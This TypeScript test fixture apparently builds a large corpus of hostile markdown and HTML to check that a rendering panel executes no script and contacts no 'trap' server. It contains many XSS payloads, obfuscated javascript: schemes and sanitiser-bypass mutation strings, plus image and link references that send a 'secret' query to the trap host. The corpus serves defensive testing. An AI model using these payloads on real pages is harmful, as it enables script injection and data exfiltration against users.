/*
 * Answers that try to run something or to make the panel load something, by the classes of the public corpora: tags,
 * attributes, references, schemes, what sanitisers have mistaken for something else, SVG and MathML, styles; and what carries
 * words away by pictures, links, references, bare addresses and tables. Each stands by itself and within what markdown has.
 */

const elements = [
  'script',
  'img',
  'svg',
  'iframe',
  'object',
  'embed',
  'video',
  'audio',
  'source',
  'link',
  'style',
  'base',
  'meta',
  'form',
  'input',
  'button',
  'details',
  'marquee',
  'body',
  'math',
  'mglyph',
  'use',
  'image',
  'foreignObject',
  'animate',
  'set',
  'template',
  'noscript',
  'textarea',
  'title',
  'xmp',
  'plaintext',
  'table',
  'select',
  'dialog',
  'portal',
  'x-y',
];
const handlers = [
  'onload',
  'onerror',
  'onfocus autofocus tabindex=0',
  'ontoggle open',
  'onbegin',
  'onpointerrawupdate',
  'OnLoAd',
];
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java&#10;script:',
  '&#x6A;avascript:',
  'javascript&colon;',
  ' javascript:',
  '\u0001javascript:',
  'vbscript:',
  'data:text/html,',
  'data:image/svg+xml,',
  'blob:',
  'file:///',
  'chrome://',
  'about:',
  'view-source:',
  'filesystem:',
  'ws://',
  'ftp://',
  '//',
  '/\\',
  'intent:',
  'feed:javascript:',
  'jar:',
  'ms-settings:',
];

/** By name; `trap` is the origin of a server that must hear nothing. */
function payloads(trap: string): readonly string[] {
  const run = 'globalThis.ran=1';
  let count = 0;
  const address = (): string => `${trap}/${(count += 1)}.png?q=secret`;
  const tags = elements.flatMap((name) => [
    `<${name} src="${address()}" href="${address()}" data="${address()}" ${handlers[count % handlers.length]}="${run}">${run}</${name}>`,
    `<${name}/src=${address()}/${handlers[(count + 3) % handlers.length]}=${run}>`,
    `<${name}\nstyle="background:url(${address()})" ${handlers[(count + 5) % handlers.length]}='${run}'`,
    `&lt;${name} src=${address()} onerror=${run}&gt;`,
    `\\<${name} onload=${run}\\>`,
  ]);
  const links = schemes.flatMap((scheme) => [
    `[press](${scheme}${run})`,
    `[press](<${scheme}${run}> "t")`,
    `<${scheme}${run}>`,
    `![press](${scheme}${run})`,
    `[press][r${(count += 1)}]\n\n[r${count}]: ${scheme}${run}`,
    `[![p](${address()})](${scheme}${run})`,
    `$\\href{${scheme}${run}}{x}$ \\(\\url{${scheme}${run}}\\)`,
  ]);
  const mutations = [
    '<svg></p><style><a id="</style><img src=1 onerror=RUN>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>',
    '<noscript><p title="</noscript><img src=x onerror=RUN>">',
    '<textarea></textarea ><img src=x onerror=RUN>',
    '<!--><img src=x onerror=RUN>-->',
    '<!--[if gte IE 4]><script>RUN</script><![endif]-->',
    '<![CDATA[<img src=x onerror=RUN>]]>',
    '<?xml-stylesheet href="TRAP"?>',
    '<a href="javascript&#x3A;RUN">x</a>',
    '<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>',
    '<svg><animate xlink:href=#x attributeName=href values=javascript:RUN /><a id=x>x</a>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=RUN /></svg>#x">',
    '<math href="javascript:RUN">x</math><math><maction actiontype=statusline xlink:href=javascript:RUN>x',
    '"><img src=x onerror=RUN>',
    "'-RUN-'",
    '\u0000<img src=x onerror=RUN>',
    '<img src=x onerror=RUN//',
    '<<img src=x onerror=RUN>>',
    '<scr<script>ipt>RUN</scr</script>ipt>',
    '${RUN}{{RUN}}<%=RUN%>#{RUN}',
    '<style>@import "TRAP";*{background:url(TRAP)}@font-face{font-family:x;src:url(TRAP)}</style>',
    '<div style="behavior:url(TRAP);-moz-binding:url(TRAP);width:expression(RUN)">',
    '<link rel=prefetch href=TRAP><link rel=dns-prefetch href=TRAP><link rel=preconnect href=TRAP>',
    '<meta http-equiv=refresh content="0;url=TRAP"><base href=TRAP>',
    '```html\n<script>RUN</script>\n``` <script>RUN</script>',
    '``<img src=x onerror=RUN>`` `<img src=x onerror=RUN>',
    '$$\\includegraphics{TRAP}\\href{javascript:RUN}{x}\\htmlData{onclick=RUN}{x}\\style{background:url(TRAP)}{x}$$',
    '\\(\\unicode{x3c}script\\unicode{x3e}RUN\\) \\[\\text{<img src=x onerror=RUN>}\\]',
    '[x]: javascript:RUN\n\n[x] [__proto__] [constructor]',
  ].map((text) => text.replaceAll('RUN', run).replaceAll('TRAP', address()));
  const carried = Array.from({ length: 20 }, (_, n) => [
    `![${'x'.repeat(n)}](${address()} 'title')`,
    `![a][i${n}] ![i${n}]\n\n[i${n}]: ${address()}`,
    `${address()} <${address()}>`,
    `[${n}](${address()})[^${n}]\n\n[^${n}]: ${address()}`,
    `![a](\n${address()}\n"t") ![b](<${address()}>)`,
  ]).flat();
  return [...tags, ...links, ...mutations, ...carried];
}

/** What stands around it. */
const places: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `- item\n  ${text.replaceAll('\n', '\n  ')}`,
  (text) => `> ${text.replaceAll('\n', '\n> ')}`,
  (text) => `| a | b |\n|---|---|\n| ${text.replaceAll(/[\n|]/g, ' ')} | x |`,
  (text) => `# ${text.replaceAll('\n', ' ')}`,
  (text) => `**a ${text}** ~~b ${text.slice(0, 40)}~~`,
  (text) => `[words ${text.replaceAll('\n', ' ')} words](https://docs.example/)`,
];

/** More than 2,000 answers; those of one class stand apart from each other. */
export function hostileCorpus(trap: string): readonly string[] {
  const all = payloads(trap);
  return places.flatMap((place, shift) =>
    all.map((_, index) => place(all[(index * 7 + shift) % all.length] ?? '')),
  );
}
